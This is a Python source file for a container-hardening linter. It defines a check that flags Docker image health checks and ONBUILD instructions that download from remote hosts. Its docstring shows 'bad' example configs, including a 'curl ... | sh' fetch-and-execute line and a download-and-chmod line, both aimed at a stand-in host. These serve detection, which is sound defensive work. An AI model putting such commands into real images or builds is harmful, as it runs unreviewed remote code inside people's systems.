from collections.abc import Iterator

from hardenlint import Command, Container, Finding, Image, Severity, check
from hardenlint.facts.running import hidden


@check(
    Severity.MEDIUM,
    "restricted",
    references=("CWE-494", "CWE-829"),
    without=("dockerfile", "compose", "live"),
)
def image_config_hidden_entry(image: Image) -> Iterator[Finding]:
    """Image fetches from the network where nobody looks

    ## Why

    A health check runs every few seconds, and ONBUILD instructions run in every build that starts
    from the image. Neither shows in the command that an image starts, which makes them the place
    for code that is fetched later, after somebody has reviewed the image.

    ## Fix

    ### With docker run

    Find out who built the image. Rebuild it with a health check that asks the service itself, and
    without ONBUILD instructions that download.

    ## When it is a false alarm

    The health check asks another server on purpose, because the service is useless without it.

    ## Examples

    ```json bad
    [{"Id": "sha256:1", "RepoTags": ["app:1"], "RepoDigests": [], "RootFS": {}, "Config":
      {"Healthcheck": {"Test": ["CMD-SHELL", "curl -s https://x.example.com/h | sh"]}}}]
    ```

    ```json bad
    [{"Id": "sha256:1", "RepoTags": ["app:1"], "RepoDigests": [], "RootFS": {}, "Config":
      {"OnBuild": ["RUN curl -o /a https://x.example.com/a && chmod 755 /a"]}}]
    ```

    ```json good
    [{"Id": "sha256:1", "RepoTags": ["app:1"], "RepoDigests": [], "RootFS": {}, "Config":
      {"Healthcheck": {"Test": ["CMD-SHELL", "curl -f http://localhost:8080/ || exit 1"]}}}]
    ```
    """
    if isinstance(image, Container):
        return
    for what, _, commands in hidden(image):
        for command in commands:
            host = _fetched(command)
            if host:
                yield Finding(
                    command.span, f"{what} downloads from {host} with {command.name}", evidence=host
                )


def _fetched(command: Command) -> str:
    """The host of the first URL that a command fetches from another machine."""
    from hardenlint.facts import download  # noqa: PLC0415 - only where something is hidden

    got = download.of(command.name, command.argv)
    for url in got.urls if got is not None else ():
        host = download.host(url).partition(":")[0]
        # A health check asks the container itself.
        if host and not host.startswith(("127.", "0.0.0.0")):  # noqa: S104
            return host
    return ""
